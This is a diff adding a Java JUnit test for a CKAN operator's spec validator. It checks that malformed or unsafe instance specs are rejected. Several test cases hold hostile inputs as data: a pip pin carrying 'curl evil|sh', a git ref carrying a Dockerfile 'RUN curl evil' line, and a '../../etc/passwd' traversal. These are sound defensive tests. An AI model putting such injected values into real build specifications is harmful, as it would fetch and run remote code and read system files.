@@ -1,0 +1,105 @@
+package io.ckan.operator.release;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.ckan.operator.api.CkanInstanceSpec;
+import io.ckan.operator.api.ExtensionSpec;
+import io.ckan.operator.api.GitSource;
+import io.ckan.operator.api.ImageSpec;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.function.Consumer;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class SpecValidatorTest {
+
+  static CkanInstanceSpec valid() {
+    CkanInstanceSpec spec = new CkanInstanceSpec();
+    spec.version = "2.11.5";
+    spec.extensions = new ArrayList<>(List.of(pip("dcat", "ckanext-dcat==2.4.4", "dcat", "structured_data"),
+        git("harvest", "https://github.com/ckan/ckanext-harvest", "v1.6.3", "harvest")));
+    spec.plugins = new ArrayList<>(List.of("activity", "dcat", "harvest"));
+    spec.config = new LinkedHashMap<>();
+    spec.config.put("ckan.site_url", "https://data.example.org");
+    spec.image = new ImageSpec();
+    spec.image.prebuilt = "registry.example.org/ckan@sha256:" + "a".repeat(64);
+    return spec;
+  }
+
+  static ExtensionSpec pip(String name, String pin, String... plugins) {
+    ExtensionSpec e = new ExtensionSpec();
+    e.name = name;
+    e.pip = pin;
+    e.plugins = List.of(plugins);
+    return e;
+  }
+
+  static ExtensionSpec git(String name, String url, String ref, String... plugins) {
+    ExtensionSpec e = new ExtensionSpec();
+    e.name = name;
+    e.git = new GitSource();
+    e.git.url = url;
+    e.git.ref = ref;
+    e.plugins = List.of(plugins);
+    return e;
+  }
+
+  @Test
+  void aValidSpecHasNoErrors() {
+    assertEquals(List.of(), SpecValidator.validate(valid()));
+  }
+
+  static Stream<Arguments> invalid() {
+    return Stream.of(
+        Arguments.of("version missing", (Consumer<CkanInstanceSpec>) s -> s.version = null, "spec.version"),
+        Arguments.of("version not X.Y.Z", (Consumer<CkanInstanceSpec>) s -> s.version = "2.11", "spec.version"),
+        Arguments.of("unpinned pip", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).pip = "ckanext-dcat>=2",
+            "spec.extensions[0].pip"),
+        Arguments.of("pip injection", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).pip =
+            "ckanext-dcat==2.4.4; curl evil|sh", "spec.extensions[0].pip"),
+        Arguments.of("http git url", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).git.url =
+            "http://github.com/ckan/ckanext-harvest", "spec.extensions[1].git.url"),
+        Arguments.of("git ref injection", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).git.ref =
+            "v1.6.3\nRUN curl evil", "spec.extensions[1].git.ref"),
+        Arguments.of("git ref traversal", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).git.ref = "a/../b",
+            "spec.extensions[1].git.ref"),
+        Arguments.of("both sources", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).git =
+            s.extensions.get(1).git, "spec.extensions[0]"),
+        Arguments.of("no source", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(0).pip = null,
+            "spec.extensions[0]"),
+        Arguments.of("duplicate names", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).name = "dcat",
+            "spec.extensions[1].name"),
+        Arguments.of("requirements traversal", (Consumer<CkanInstanceSpec>) s -> s.extensions.get(1).requirementsFile =
+            "../../etc/passwd", "spec.extensions[1].requirementsFile"),
+        Arguments.of("unknown plugin", (Consumer<CkanInstanceSpec>) s -> s.plugins.add("spatial_metadata"),
+            "spec.plugins[3]"),
+        Arguments.of("repeated plugin", (Consumer<CkanInstanceSpec>) s -> s.plugins.add("dcat"), "spec.plugins[3]"),
+        Arguments.of("prebuilt by tag", (Consumer<CkanInstanceSpec>) s -> s.image.prebuilt =
+            "registry.example.org/ckan:2.11.5", "spec.image.prebuilt"),
+        Arguments.of("secret in config", (Consumer<CkanInstanceSpec>) s -> s.config.put("beaker.session.secret", "x"),
+            "spec.config[beaker.session.secret]"),
+        Arguments.of("db url in config", (Consumer<CkanInstanceSpec>) s -> s.config.put("sqlalchemy.url",
+            "postgresql://u:p@db/ckan"), "spec.config[sqlalchemy.url]"),
+        Arguments.of("plugins in config", (Consumer<CkanInstanceSpec>) s -> s.config.put("ckan.plugins", "x"),
+            "spec.config[ckan.plugins]"),
+        Arguments.of("bad config key", (Consumer<CkanInstanceSpec>) s -> s.config.put("CKAN SITE", "x"),
+            "spec.config[CKAN SITE]"),
+        Arguments.of("negative replicas", (Consumer<CkanInstanceSpec>) s -> s.replicas = -1, "spec.replicas"));
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @MethodSource("invalid")
+  void namesTheOffendingField(String what, Consumer<CkanInstanceSpec> breakIt, String field) {
+    CkanInstanceSpec spec = valid();
+    breakIt.accept(spec);
+    List<FieldError> errors = SpecValidator.validate(spec);
+    assertTrue(errors.stream().anyMatch(e -> e.field().equals(field)), what + ": " + errors);
+    assertTrue(ReleaseFactory.from(spec) instanceof ReleaseOutcome.Invalid);
+  }
+}
